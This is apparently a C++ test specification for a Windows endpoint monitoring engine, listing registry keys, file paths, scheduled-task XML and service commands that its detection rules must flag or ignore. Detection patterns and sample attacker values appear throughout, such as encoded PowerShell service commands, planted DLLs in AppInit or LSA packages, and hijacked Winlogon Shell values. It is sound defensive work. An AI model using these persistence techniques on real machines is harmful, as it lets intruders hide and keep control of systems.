// The specification, in DOMAIN's order. It is the counterpart of engine/monitoring/event_table.cc and must be read
// against DOMAIN 4, not against that file.
#include "tests/engine/monitoring/rule_specification.h"

namespace holdfast::engine {
namespace {

using Texts = std::vector<std::string>;

// The same key for the machine and for a user.
Texts in_both_hives(const Texts& keys) {
  Texts all;
  for (const std::string& key : keys) {
    all.push_back("HKLM\\" + key);
    all.push_back("HKCU\\" + key);
  }
  return all;
}

Texts prefixed(const std::string& prefix, const Texts& names, const std::string& suffix = {}) {
  Texts all;
  for (const std::string& name : names) all.push_back(std::string(prefix).append(name).append(suffix));
  return all;
}

Texts operator+(Texts one, const Texts& other) {
  one.insert(one.end(), other.begin(), other.end());
  return one;
}

const std::string kCurrent = R"(Software\Microsoft\Windows\CurrentVersion\)";
const std::string kNtCurrent = R"(Software\Microsoft\Windows NT\CurrentVersion\)";
const std::string kControl = R"(HKLM\System\CurrentControlSet\Control\)";
const std::string kServices = R"(HKLM\System\CurrentControlSet\Services\)";
const std::string kInternetExplorer = R"(Software\Microsoft\Internet Explorer\)";
const std::string kClasses = R"(Software\Classes\)";
const std::string kSystem32 = R"(C:\Windows\System32\)";

constexpr OperationMask kSetOrMoved = kValueSet | kKeyMovedHere;
constexpr OperationMask kSetMovedOrDeleted = kSetOrMoved | kValueDeleted;
constexpr OperationMask kAnyKeyArrival = kKeyCreated | kKeyMovedHere | kValueSet;
constexpr OperationMask kAnyValueChange = kValueSet | kValueDeleted | kKeyMovedHere | kKeyDeleted;
constexpr OperationMask kFileComes = kFileCreated | kFileWritten | kFileMovedHere;
constexpr OperationMask kFileTouched = kFileComes | kFileDeleted | kFileMovedAway | kFileOpened;

// Rights that change a file: write, append, delete, write the access list, take ownership.
const std::vector<std::uint32_t> kFileRights{0x2, 0x4, 0x10000, 0x40000, 0x80000};

const Texts kSystemActors = {R"(C:\Windows\System32\svchost.exe)", R"(C:\Windows\System32\csrss.exe)", "System",
                             R"(C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2001.10-0\MsMpEng.exe)"};
const Texts kOtherActors = {R"(C:\Users\alice\Downloads\setup.exe)",
                            R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
                            R"(C:\Windows\System32\rundll32.exe)", R"(C:\Temp\svchost.exe)", ""};
// Sysmon opens every process to tell of it, and does nothing to it.
const Texts kRecorders = {R"(C:\Windows\Sysmon.exe)", R"(C:\Windows\Sysmon64.exe)", R"(C:\Windows\Sysmon64a.exe)"};
const Texts kImpostors = {R"(C:\Users\Public\Sysmon.exe)", R"(C:\Windows \Sysmon.exe)", R"(C:\Windows\Sysmon.exe:evil)",
                          R"(C:\Windows\Temp\Sysmon64.exe)", R"(D:\Windows\Sysmon.exe)"};
const Texts kGuardedProcesses = {
    R"(C:\Windows\System32\lsass.exe)",   R"(C:\Windows\System32\winlogon.exe)",
    R"(C:\Windows\System32\csrss.exe)",   R"(C:\Windows\System32\services.exe)",
    R"(C:\Windows\System32\svchost.exe)", R"(C:\Windows\System32\smss.exe)",
    R"(C:\Windows\System32\wininit.exe)", R"(C:\Program Files\Windows Defender\MsMpEng.exe)"};
const Texts kOtherProcesses = {R"(C:\Program Files\Vendor\app.exe)", R"(C:\Windows\System32\notepad.exe)",
                               R"(C:\Users\Public\lsass.exe)", ""};

Change original_name(std::string name, std::string image) {
  return [name, image](RuleCase& c) {
    c.original_name = name;
    c.target = image;
  };
}

std::vector<RuleSpecification> startup() {
  const std::string task_tree = R"(HKLM\Software\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\)";
  const Texts daily_tasks = {R"(Microsoft\Windows\UpdateOrchestrator\AC Power Install)",
                             R"(Microsoft\Windows\Windows Defender\Windows Defender Cleanup)",
                             R"(Microsoft\Windows Defender\MP Scheduled Scan)",
                             R"(Microsoft\Microsoft Antimalware\MP Scheduled Scan)"};
  // Anybody may call a task or a folder so elsewhere.
  const Texts beside_daily_tasks = {"Windows Defender",
                                    "MP Scheduled Scan",
                                    R"(MyApp\UpdateOrchestrator\x)",
                                    R"(MyApp\Windows\UpdateOrchestrator\x)",
                                    R"(Microsoft\Office\x)",
                                    R"(Microsoft\Windows\UpdateOrchestrator)",
                                    R"(System32\Tasks\Microsoft\Windows\UpdateOrchestrator\x)"};
  const Texts run_keys = in_both_hives(prefixed(kCurrent, {"Run", "RunOnce", "RunServices", "RunServicesOnce"}));
  return {
      {.id = "startup.run-key-for-other",
       .trust_settles = false,
       .kinds = kSetOrMoved,
       .targets = run_keys,
       .values = {"<Updater>"},
       .texts = {R"(C:\Users\alice\x.exe)"},
       .actors = {R"(C:\Windows\System32\svchost.exe)", R"(C:\Windows\System32\services.exe)",
                  R"(C:\Windows\System32\wbem\WmiPrvSE.exe)"},
       .quiet_actors = {R"(C:\Users\alice\Downloads\setup.exe)", R"(C:\Windows\explorer.exe)",
                        R"(C:\Users\Public\svchost.exe)", ""}},
      {.id = "startup.run-key",
       .kinds = kSetOrMoved,
       .targets = run_keys,
       .values = {"<Updater>", ""},
       .texts = {R"("C:\Program Files\Updater\updater.exe" /background)"},
       .quiet_targets = in_both_hives({R"(Software\Microsoft\Windows\CurrentVersion\Run\Sub)",
                                       R"(Software\Microsoft\Windows\CurrentVersion\Explorer\StartupApproved\Run)"})},
      {.id = "startup.run-once-ex",
       .kinds = kSetOrMoved,
       .targets = in_both_hives({kCurrent + R"(RunOnceEx<<\0001\Depend>>)"}),
       .values = {"<1>"},
       .texts = {R"(C:\x.dll)"}},
      {.id = "startup.policy-run",
       .kinds = kSetOrMoved,
       .targets = in_both_hives({kCurrent + R"(Policies\Explorer\Run)"}),
       .values = {"<1>"},
       .texts = {R"(C:\x.exe)"}},
      {.id = "startup.load-value",
       .kinds = kSetOrMoved,
       .targets = in_both_hives({kNtCurrent + "Windows"}),
       .values = {"Load", "Run"},
       .texts = {R"(C:\x.exe)"},
       .quiet_texts = {"", " "}},
      {.id = "startup.userinit",
       .kinds = kSetOrMoved,
       .targets = in_both_hives({kNtCurrent + "Winlogon"}),
       .values = {"Userinit"},
       .texts = {R"(C:\Windows\system32\userinit.exe,C:\Users\Public\x.exe)", R"(C:\Users\Public\x.exe)",
                 R"(C:\Users\Public\userinit.exe,)", R"(x.exe,C:\Windows\system32\userinit.exe)",
                 R"(D:\Windows\System32\userinit.exe,)", R"(C:\Windows\userinit.exe)", "userinit.exe x.exe",
                 "userinit.exe.x.exe"},
       .quiet_texts = {R"(C:\Windows\system32\userinit.exe,)", "userinit.exe", R"(C:\WINDOWS\system32\userinit,)",
                       R"("C:\Windows\System32\userinit.exe" , )", R"(%SystemRoot%\system32\userinit.exe,)",
                       R"(%windir%\system32\userinit.exe)"}},
      {.id = "startup.winlogon-shell",
       .kinds = kSetOrMoved,
       .targets = in_both_hives({kNtCurrent + "Winlogon"}),
       .values = {"Shell"},
       .texts = {R"(explorer.exe,C:\Users\Public\x.exe)", R"(Explorer.exe x.exe)",
                 R"("C:\Windows\explorer.exe", x.exe)", "explorer.exe\tx.exe", R"(C:\x.exe, explorer.exe)",
                 R"(%SystemRoot%\explorer.exe x.exe)"},
       .quiet_texts = {"explorer.exe", "explorer.exe,", R"(C:\x.exe)", R"(C:\Windows\explorer.exe)",
                       R"("%windir%\explorer.exe", )"}},
      {.id = "startup.folder",
       .kinds = kFileComes,
       .targets = {R"(<<C:\Users\alice\AppData\Roaming\Microsoft\Windows\>>Start Menu\Programs\Startup<<\x.lnk>>)",
                   R"(<<C:\ProgramData\Microsoft\Windows\>>Start Menu\Programs\StartUp\<<sub\x.vbs>>)"},
       .quiet_targets =
           {R"(C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup\desktop.ini)",
            R"(C:\ProgramData\Microsoft\Windows\Start Menu \Programs\Startup\x.lnk)",
            R"(C:\Users\alice\AppData\Local\Microsoft\Windows\PowerShell\StartupProfileData-Interactive)"}},
      {.id = "startup.boot-execute",
       .kinds = kSetOrMoved,
       .targets = {kControl + "Session Manager"},
       .values = {"BootExecute", "SetupExecute", "Execute"},
       .texts = {"autocheck autochk *\nevil", "evil"},
       .quiet_texts = {"autocheck autochk *", "autocheck autochk /q /v *", ""}},
      {.id = "startup.active-setup",
       .kinds = kSetOrMoved,
       .targets = in_both_hives({R"(Software\Microsoft\Active Setup\Installed Components\<{0A}>)"}),
       .values = {"StubPath"},
       .texts = {R"(C:\x.exe)"},
       .quiet_values = {"Version", "IsInstalled"}},
      {.id = "startup.logon-script",
       .kinds = kSetOrMoved,
       .targets = {R"(HKCU\Environment)"},
       .values = {"UserInitMprLogonScript"},
       .texts = {R"(C:\Users\alice\AppData\Local\Temp\art.bat)"},
       .quiet_values = {"OneDrive", "TEMP"}},
      {.id = "startup.policy-script",
       .kinds = kSetOrMoved,
       .targets = in_both_hives({R"(Software\Policies\Microsoft\Windows\System\Scripts<<\Logon\0\0>>)"}),
       .values = {"Script"},
       .texts = {"logon.cmd"},
       .quiet_values = {"Parameters", "ExecTime"}},
      {.id = "startup.policy-script-file",
       .kinds = kFileComes,
       .targets = {kSystem32 + R"(GroupPolicy<<\User>>\Scripts<<\Logon\logon.cmd>>)"},
       .quiet_targets = {kSystem32 + R"(GroupPolicy\Machine\Registry.pol)",
                         R"(C:\Windows \System32\GroupPolicy\User\Scripts\Logon\logon.cmd)"}},
      {.id = "startup.task",
       .trust_settles = false,
       .kinds = kTaskCreated,
       .targets = {R"(<=\Updater>)"},
       .texts =
           {R"(<Task><Actions><Exec><Command>C:\Users\alice\x.exe</Command></Exec></Actions></Task>)",
            R"(<Task><Exec><Command>powershell.exe</Command><Arguments>-enc AAAA</Arguments></Exec></Task>)",
            R"(<Task><Exec><Command>%windir%\system32\usoclient.exe</Command></Exec>)"
            R"(<Exec><Command>C:\x.exe</Command></Exec></Task>)",
            R"(<Task><Exec><Command>sc.exe</Command><Arguments>config wuauserv binpath= x</Arguments></Exec></Task>)",
            R"(<Task><Exec><Command>sc.exe</Command><Arguments>\\SRV start wuauserv</Arguments></Exec></Task>)",
            R"(<Task><Exec><Command>C:\Users\Public\sc.exe</Command><Arguments>start x</Arguments></Exec></Task>)",
            R"(<Task><Actions><ComHandler><ClassId>{0A}</ClassId></ComHandler></Actions></Task>)",
            R"(<Task><Exec><Command>gpupdate.exe</Command></Exec><ComHandler id="x"><ClassId>{0A}</ClassId></ComHandler>)"
            R"(</Task>)",
            R"(<Task><Exec><Command>gpupdate.exe</Command></Exec><Exec><Command >C:\x.exe</Command></Exec></Task>)",
            R"(<t:Task><!-- <Command>gpupdate.exe</Command> --><t:Exec><t:Command>C:\x.exe</t:Command></t:Exec></t:Task>)",
            ""},
       .quiet_texts =
           {R"(<Task><Exec><Command>%systemroot%\system32\usoclient.exe</Command></Exec></Task>)",
            R"(<Task><Exec><Command>gpupdate.exe</Command><Arguments>/target:computer</Arguments></Exec></Task>)",
            R"(<Task><Exec><Command>sc.exe</Command><Arguments>start wuauserv</Arguments></Exec></Task>)",
            R"(<Task><Exec><Command>C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.1-0\MpCmdRun.exe)"
            R"(</Command><Arguments>Scan -ScheduleJob</Arguments></Exec></Task>)"}},
      {.id = "startup.task-changed",
       .trust_settles = false,
       .kinds = kTaskChanged,
       .targets = {R"(<=\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager>)"},
       .texts = {R"(<Task><Exec><Command>C:\Windows\system32\cmd.exe</Command></Exec></Task>)",
                 R"(<Task><Actions><ComHandler><ClassId>{0A}</ClassId></ComHandler></Actions></Task>)"},
       .quiet_texts =
           {R"(<Task><Exec><Command>%systemroot%\system32\usoclient.exe</Command></Exec></Task>)",
            R"(<Task><ComHandler><ClassId>{B1AEBB5D-EAD9-4476-B375-9C3ED9F32AFC}</ClassId></ComHandler></Task>)",
            "<Task><Triggers/></Task>"}},
      {.id = "startup.task-registry",
       .trust_settles = false,
       .kinds = kSetOrMoved,
       .targets =
           Texts{R"(HKLM\Software\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree<<\MordorSchtask>>)",
                 R"(HKLM\Software\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree)"
                 R"(<<\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager>>)"} +
           prefixed(task_tree + "<=", beside_daily_tasks, ">"),
       .values = {"Id"},
       .texts = {"{0A}"},
       .quiet_targets = prefixed(task_tree, daily_tasks),
       .quiet_values = {"Index", "SD"}},
      {.id = "startup.task-file",
       .trust_settles = false,
       .kinds = kFileCreated | kFileMovedHere,
       .targets = Texts{kSystem32 + R"(Tasks<<\elevator>>)", R"(C:\Windows\SysWOW64\Tasks<<\Microsoft\Windows\x>>)"} +
                  prefixed(kSystem32 + R"(Tasks\<=)", beside_daily_tasks, ">"),
       .quiet_targets = prefixed(kSystem32 + R"(Tasks\)", daily_tasks) +
                        prefixed(R"(C:\Windows\SysWOW64\Tasks\)", daily_tasks) +
                        Texts{R"(C:\Windows \System32\Tasks\elevator)"}},
      {.id = "startup.job-file",
       .trust_settles = false,
       .kinds = kFileComes,
       .targets = {R"(C:\Windows\Tasks\<At1>.job)"},
       .quiet_targets = {R"(C:\Windows \Tasks\At1.job)"}},
      {.id = "startup.wmi-subscription",
       .trust_settles = false,
       .kinds = kWmiConsumerAdded | kWmiBindingAdded,
       .texts = {"powershell.exe -enc AAAA", ""}},
  };
}

std::vector<RuleSpecification> hosts() {
  return {
      {.id = "hosts.file",
       .kinds = kFileTouched,
       .targets = {kSystem32 + R"(drivers\etc\hosts)"},
       .rights = kFileRights,
       .quiet_targets = {kSystem32 + R"(drivers\etc\services)", R"(C:\Users\alice\hosts)",
                         R"(C:\Windows \System32\drivers\etc\hosts)"}},
      {.id = "hosts.file-by-share",
       .kinds = kFileTouched,
       .targets = {R"(\\<SRV01>\ADMIN$<<\System32>>\drivers\etc\hosts)",
                   R"(\\<SRV01>\C$<<\Windows\System32>>\drivers\etc\hosts)"},
       .rights = kFileRights,
       .quiet_targets = {R"(\\SRV01\C$\Windows \System32\drivers\etc\hosts)"}},
      {.id = "hosts.database-path",
       .kinds = kSetMovedOrDeleted,
       .targets = {kServices + R"(Tcpip\Parameters)"},
       .values = {"DataBasePath"},
       .texts = {R"(C:\evil)"},
       .quiet_values = {"DhcpNameServer"}},
  };
}

std::vector<RuleSpecification> library_injection() {
  const std::string windows = "HKLM\\" + kNtCurrent + "Windows";
  return {
      {.id = "library-injection.appinit",
       .kinds = kSetOrMoved,
       .targets = {windows},
       .values = {"AppInit_DLLs"},
       .texts = {R"(C:\evil.dll)"},
       .quiet_values = {"DeviceNotSelectedTimeout"},
       .quiet_texts = {"", "  "}},
      {.id = "library-injection.appinit-switch",
       .kinds = kSetOrMoved,
       .targets = {windows},
       .values = {"LoadAppInit_DLLs"},
       .texts = {"1"},
       .quiet_texts = {"0", ""}},
      {.id = "library-injection.appcert",
       .kinds = kSetOrMoved,
       .targets = {kControl + R"(Session Manager\AppCertDlls)"},
       .values = {"<AppSecDll>"},
       .texts = {R"(C:\evil.dll)"}},
      {.id = "library-injection.known-dlls",
       .kinds = kAnyValueChange,
       .targets = {kControl + R"(Session Manager\KnownDLLs)"},
       .values = {"<kernel32>"},
       .texts = {"evil.dll"}},
      {.id = "library-injection.winlogon-notify",
       .kinds = kAnyKeyArrival,
       .targets = {"HKLM\\" + kNtCurrent + R"(Winlogon\Notify<<\evil>>)"},
       .values = {"<DllName>"},
       .texts = {"evil.dll"}},
      {.id = "library-injection.lsa-packages",
       .kinds = kSetOrMoved,
       .targets = {kControl + R"(Lsa<<\OSConfig>>)"},
       .values = {"Authentication Packages", "Security Packages", "Notification Packages"},
       .texts = {"msv1_0\nevil"},
       .quiet_values = {"LsaPid", "ProductType"}},
      {.id = "library-injection.print-monitor",
       .kinds = kSetOrMoved,
       .targets = {kControl + R"(Print\Monitors\<Evil Monitor>)"},
       .values = {"Driver"},
       .texts = {"evil.dll"},
       .quiet_values = {"Port"}},
      {.id = "library-injection.load-library-thread",
       .kinds = kThreadInjected,
       .targets = {R"(<=C:\Windows\System32\notepad.exe>)"},
       .texts = {"LoadLibraryA", "LoadLibraryW", "LoadLibraryExA", "LoadLibraryExW", "LdrLoadDll"},
       .quiet_texts = {"CtrlRoutine", "RtlUserThreadStart", "MyLoadLibraryW", ""},
       .quiet = {[](RuleCase& c) { c.on_itself = true; }}},
      {.id = "library-injection.thread-outside-modules",
       .kinds = kThreadInjected,
       .targets = {R"(<=C:\Windows\System32\notepad.exe>)"},
       .texts = {"", "-"},
       .actors = kOtherActors,
       .module = "",
       .matches = {[](RuleCase& c) { c.module = "-"; }},
       .quiet_actors = kSystemActors,
       .quiet = {[](RuleCase& c) { c.on_itself = true; },
                 [](RuleCase& c) { c.module = R"(C:\Windows\System32\ntdll.dll)"; },
                 [](RuleCase& c) { c.text = "CtrlRoutine"; }}},
  };
}

std::vector<RuleSpecification> internet_explorer() {
  const std::string zone_map = kCurrent + R"(Internet Settings\ZoneMap)";
  const Texts intranet = {"ProxyBypass", "IntranetName", "UNCAsIntranet"};
  return {
      {.id = "ie-plugin.helper-object",
       .event = v1::NEW_INTERNET_EXPLORER_PLUGIN,
       .kinds = kAnyKeyArrival,
       .targets = in_both_hives({kCurrent + R"(Explorer\Browser Helper Objects\<{0A}><<\Sub>>)"}),
       .values = {"<NoExplorer>"},
       .quiet_targets = in_both_hives({kCurrent + R"(Explorer\Browser Helper Objects)"})},
      {.id = "ie-plugin.toolbar",
       .event = v1::NEW_INTERNET_EXPLORER_PLUGIN,
       .kinds = kSetOrMoved,
       .targets = in_both_hives({kInternetExplorer + R"(Toolbar<<\ShellBrowser>>)"}),
       .values = {"<ITBar7Layout>"}},
      {.id = "ie-plugin.extension",
       .event = v1::NEW_INTERNET_EXPLORER_PLUGIN,
       .kinds = kAnyKeyArrival,
       .targets = in_both_hives(
           {kInternetExplorer + R"(Extensions\<{0A}><<\Sub>>)", kInternetExplorer + R"(Explorer Bars\<{0A}><<\Sub>>)"}),
       .values = {"<ClsidExtension>"},
       .quiet_targets = in_both_hives({kInternetExplorer + "Extensions"})},
      {.id = "ie-plugin.url-search-hook",
       .event = v1::NEW_INTERNET_EXPLORER_PLUGIN,
       .kinds = kSetOrMoved,
       .targets = in_both_hives({kInternetExplorer + "UrlSearchHooks"}),
       .values = {"<{0A}>"}},
      {.id = "ie-setting.main-page",
       .kinds = kSetMovedOrDeleted,
       .targets = in_both_hives({kInternetExplorer + "Main"}),
       .values = {"Start Page", "Secondary Start Pages", "Default_Page_URL", "Search Page", "Search Bar",
                  "Default_Search_URL", "Local Page"},
       .texts = {"http://example.test/"},
       .quiet_values = {"Window_Placement", "FullScreen"}},
      {.id = "ie-setting.search",
       .kinds = kAnyValueChange,
       .targets = in_both_hives(
           prefixed(kInternetExplorer, {"Search", "SearchUrl", "SearchScopes", "AboutURLs"}, R"(<<\{0A}>>)")),
       .values = {"<URL>"}},
      {.id = "ie-setting.proxy",
       .kinds = kSetMovedOrDeleted,
       .targets = in_both_hives({kCurrent + "Internet Settings"}),
       .values = {"ProxyEnable", "ProxyServer", "ProxyOverride", "AutoConfigURL", "AutoDetect"},
       .texts = {"1"},
       .quiet_values = {"User Agent", "EnableNegotiate"}},
      {.id = "ie-setting.connections",
       .kinds = kSetOrMoved,
       .targets = in_both_hives({kCurrent + R"(Internet Settings\Connections)"}),
       .values = {"DefaultConnectionSettings", "SavedLegacySettings", "WinHttpSettings"},
       .texts = {"4600"},
       .quiet_values = {"Vpn"}},
      {.id = "ie-setting.zones",
       .kinds = kAnyValueChange,
       .targets =
           in_both_hives(prefixed(kCurrent + R"(Internet Settings\)", {"Zones", "Lockdown_Zones"}, R"(<<\3>>)")) +
           in_both_hives({kCurrent + R"(Internet Settings\ZoneMap\<Domains><<\evil.test>>)",
                          kCurrent + R"(Internet Settings\ZoneMap\<=Domains\ZoneMap>)"}),
       .values = {"<1001>"},
       .texts = {"0"},
       .quiet_targets = in_both_hives({kCurrent + R"(Internet Settings\5.0\Cache\Content)"})},
      {.id = "ie-setting.zone-map",
       .kinds = kAnyValueChange,
       .targets = in_both_hives({zone_map}),
       .values = {"<IEHarden>"},
       .texts = {"0", "1"},
       .quiet_values = intranet + Texts{"AutoDetect"}},
      {.id = "ie-setting.intranet",
       .kinds = kSetOrMoved,
       .targets = {"HKLM\\" + zone_map},
       .values = intranet,
       .texts = {"1", "2"},
       .quiet_targets = {"HKCU\\" + zone_map},
       .quiet_values = {"AutoDetect"},
       .quiet_texts = {"0"}},
      {.id = "ie-setting.intranet-detection",
       .kinds = kSetOrMoved,
       .targets = {"HKLM\\" + zone_map},
       .values = {"AutoDetect"},
       .texts = {"0"},
       .quiet_targets = {"HKCU\\" + zone_map},
       .quiet_values = intranet,
       .quiet_texts = {"1"}},
      {.id = "ie-setting.menu",
       .kinds = kSetOrMoved,
       .targets = in_both_hives({kInternetExplorer + R"(MenuExt<<\Search it>>)"}),
       .values = {"<Contexts>", ""}},
  };
}

std::vector<RuleSpecification> shell() {
  const std::string launcher = "{4ED3A719-CEA8-4BD9-910D-E252F997AFC2}";  // of Store apps
  const std::string command = R"(\shell\<open>\command)";
  std::vector<Change> own_classes;
  for (const std::string extension : {"exe", "com", "bat", "cmd", "pif", "scr", "cpl", "reg", "lnk"}) {
    own_classes.emplace_back([extension](RuleCase& c) {
      c.kind = kValueSet;
      c.target = "HKLM\\" + kClasses + "." + extension;
      c.text = extension + "file";
    });
  }
  return {
      {.id = "shell.command-for-other",
       .trust_settles = false,
       .kinds = kSetOrMoved,
       .targets = in_both_hives(prefixed(kClasses,
                                         {"exefile", "comfile", "batfile", "cmdfile", "mscfile", "Folder", "Directory",
                                          "Drive", "ms-<browser>", "AppX<82a6gwre4fdg3bt635tn5ctqjf8msdd2>"},
                                         command)),
       .values = {"", "DelegateExecute"},
       .texts = {"cmd.exe /c notepad.exe", ""},
       .actors = {R"(C:\Windows\System32\svchost.exe)", R"(C:\Windows\System32\services.exe)",
                  R"(C:\Windows\System32\wbem\WmiPrvSE.exe)"},
       .quiet_texts = {launcher},
       .quiet_actors = {R"(C:\Users\alice\Downloads\setup.exe)", R"(C:\Windows\explorer.exe)", ""}},
      {.id = "shell.program-command",
       .kinds = kAnyValueChange,
       .targets = in_both_hives(prefixed(kClasses,
                                         {"exe", "com", "bat", "cmd", "pif", "scr", "cpl", "hta", "reg", "vbs", "vbe",
                                          "js", "jse", "wsf", "wsh", "msc", "inf", "lnk", "txt"},
                                         R"(file\shell\<open>\command)")),
       .values = {"", "<DelegateExecute>"},
       .texts = {R"(C:\evil.exe "%1" %*)"},
       .quiet_targets =
           in_both_hives({kClasses + R"(ProcMon.Logfile.1\shell\open\command)",
                          kClasses + R"(OperaStable\shell\open\command)", kClasses + R"(exefile\shell\open\ddeexec)"})},
      {.id = "shell.folder-command",
       .kinds = kAnyValueChange,
       .targets = in_both_hives(
           prefixed(kClasses, {"Folder", "Directory", "Drive", "Unknown", "ms-settings", "Launcher.SystemSettings"},
                    R"(\shell\<open>\command)")),
       .values = {"<DelegateExecute>", ""}},
      {.id = "shell.app-command",
       .kinds = kSetOrMoved,
       .targets =
           in_both_hives(prefixed(kClasses, {"ms-<windows-store>", "AppX<82a6gwre4fdg3bt635tn5ctqjf8msdd2>"}, command)),
       .values = {"", "DelegateExecute"},
       .texts = {"cmd.exe /c notepad.exe", ""},
       .quiet_targets = in_both_hives({kClasses + R"(msteams\shell\open\command)",
                                       kClasses + R"(AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2\shell\open)"}),
       .quiet_values = {"PackageId"},
       .quiet_texts = {launcher}},
      {.id = "shell.extension-class",
       .kinds = kSetOrMoved,
       .targets =
           in_both_hives(prefixed(kClasses, {".exe", ".com", ".bat", ".cmd", ".pif", ".scr", ".cpl", ".reg", ".lnk"})),
       .values = {""},
       .texts = {"evilfile", "exefile2", "batfile", "comfile", "exe", "efile", ""},
       .quiet_values = {"PersistentHandler", "Content Type"},
       .quiet_texts = {"exefile", "ExeFile"},
       .quiet = own_classes},
      {.id = "shell.execute-hook",
       .kinds = kSetOrMoved,
       .targets = in_both_hives(prefixed(kCurrent + R"(Explorer\)", {"ShellExecuteHooks", "SharedTaskScheduler"})),
       .values = {"<{0A}>"}},
      {.id = "shell.delay-load",
       .kinds = kSetOrMoved,
       .targets = in_both_hives({kCurrent + "ShellServiceObjectDelayLoad"}),
       .values = {"<Evil>"},
       .texts = {"{0A}"}},
      {.id = "shell.handler",
       .kinds = kAnyKeyArrival,
       .targets = in_both_hives(
           prefixed(kClasses + R"(<<Directory\>>shellex\)",
                    {"ContextMenuHandlers", "CopyHookHandlers", "DragDropHandlers", "PropertySheetHandlers"},
                    R"(\<Evil><<\Sub>>)")),
       .values = {""},
       .quiet_targets = in_both_hives({kClasses + R"(Directory\shellex\ContextMenuHandlers)"})},
      {.id = "shell.icon-handler",
       .kinds = kAnyKeyArrival,
       .targets = in_both_hives({kClasses + R"(<lnkfile>\shellex\IconHandler)"}),
       .values = {""}},
      {.id = "shell.icon-overlay",
       .kinds = kAnyKeyArrival,
       .targets = in_both_hives({kCurrent + R"(Explorer\ShellIconOverlayIdentifiers\< Evil><<\Sub>>)"}),
       .values = {""}},
      {.id = "shell.winlogon-shell",
       .kinds = kSetOrMoved,
       .targets = in_both_hives({kNtCurrent + "Winlogon"}),
       .values = {"Shell"},
       .texts = {R"(C:\evil.exe)", "evilexplorer.exe", R"(C:\Users\Public\explorer.exe)", R"(D:\Windows\explorer.exe)",
                 "explorer.exe.evil.exe", R"(C:\Windows\..\explorer.exe)", ""},
       .quiet_texts = {"explorer.exe", R"(C:\Windows\explorer.exe)", R"("%SystemRoot%\explorer.exe")",
                       R"(C:\x.exe, explorer.exe)", R"(explorer.exe C:\x.exe)"}},
      {.id = "shell.startup-folder",
       .kinds = kSetOrMoved,
       .targets = in_both_hives(prefixed(kCurrent + R"(Explorer\)", {"User Shell Folders", "Shell Folders"})),
       .values = {"Startup", "Common Startup"},
       .texts = {R"(C:\Test\calc.exe)"},
       .quiet_values = {"Desktop", "Personal"}},
  };
}

std::vector<RuleSpecification> services() {
  return {
      {.id = "service.installed",
       .trust_settles = false,
       .kinds = kServiceInstalled,
       .texts = {R"(%COMSPEC% /C start /b powershell -noP -enc AAAA)", R"(%SystemRoot%\PSEXESVC.exe)",
                 R"(rundll32.exe C:\Users\PEDRO~1.GUS\AppData\Local\Temp\x.dll,a)",
                 R"("C:\Program Files\Vendor\agent.exe" --service)", R"(\SystemRoot\System32\drivers\evil.sys)", ""},
       .quiet_texts = {R"(C:\windows\system32\svchost.exe -k UnistackSvcGroup)",
                       R"(C:\windows\system32\CredentialEnrollmentManager.exe)",
                       R"(%SystemRoot%\System32\svchost.exe -k netsvcs -p)",
                       R"(\SystemRoot\System32\svchost.exe -k netsvcs)"}},
      {.id = "service.image-path",
       .trust_settles = false,
       .kinds = kSetOrMoved,
       .targets = {kServices + R"(<Updater>)"},
       .values = {"ImagePath"},
       .texts = {R"(C:\Users\Public\evil.exe)", R"(system32\drivers\evil.sys)"},
       .quiet_targets = {kServices + R"(Updater\Parameters)"},
       .quiet_values = {"Description", "Start", "FailureActions"},
       .quiet_texts = {R"(C:\windows\system32\svchost.exe -k BthAppGroup -p)"}},
      {.id = "service.library",
       .kinds = kSetOrMoved,
       .targets = {kServices + R"(<Updater>\Parameters)"},
       .values = {"ServiceDll"},
       .texts = {R"(C:\evil.dll)"},
       .quiet_values = {"ServiceDllUnloadOnStop", "ServiceMain"}},
      {.id = "service.driver-load",
       .trust_settles = false,
       .kinds = kDriverLoaded,
       .targets = {R"(<=C:\Users\alice\AppData\Local\Temp\evil.sys>)", R"(<=C:\Windows\evil.sys>)",
                   R"(<=D:\Windows\System32\evil.sys>)", R"(<=C:\Windows \System32\drivers\evil.sys>)",
                   R"(<=C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{0A}\evil.sys>)",
                   R"(<=C:\Users\Public\MpKsl1a2b3c4d.sys>)", R"(<=C:\Windows\System32\spool\drivers\color\evil.sys>)",
                   R"(<=C:\Windows\System32\Tasks\evil.sys>)", R"(<=C:\Windows\SysWOW64\evil.sys>)",
                   R"(<=C:\Windows\System32:evil.sys>)", R"(<=C:\Windows\System32\drivers\null.sys:evil.sys>)",
                   R"(<=C:\Windows\WinSxS:evil.sys>)"},
       .quiet_targets = {kSystem32 + R"(drivers\vendor.sys)", kSystem32 + R"(drivers\wd\vendor.sys)",
                         kSystem32 + "vendor.sys", R"(\SystemRoot\System32\DriverStore\FileRepository\x\vendor.sys)",
                         R"(C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{0A}\MpKsl1a2b3c4d.sys)",
                         R"(C:\ProgramData\Microsoft\Microsoft Antimalware\Definition Updates\{0A}\MpKslDrv.sys)",
                         R"(C:\Windows\SysWOW64\drivers\x.sys)", R"(C:\Windows\WinSxS\amd64_x\disk.sys)",
                         R"(\SystemRoot\System32\DriverStore\FileRepository\x\x.sys)"}},
  };
}

std::vector<RuleSpecification> security_policy() {
  return {
      {.id = "security-policy.system",
       .kinds = kAnyValueChange,
       .targets = in_both_hives({kCurrent + R"(Policies\System<<\Audit>>)"}),
       .values = {"<EnableLUA>", "<DisableTaskMgr>", "<DisableRegistryTools>"},
       .texts = {"0"},
       .quiet_targets = in_both_hives({kCurrent + "Policies"})},
      {.id = "security-policy.explorer",
       .kinds = kAnyValueChange,
       .targets = in_both_hives({kCurrent + R"(Policies\Explorer<<\DisallowRun>>)",
                                 kCurrent + R"(Policies\Explorer<=\DisallowRun\Run>)",
                                 kCurrent + R"(Policies\Explorer<=\Explorer\Run>)"}),
       .values = {"<NoRun>"},
       .texts = {"1"},
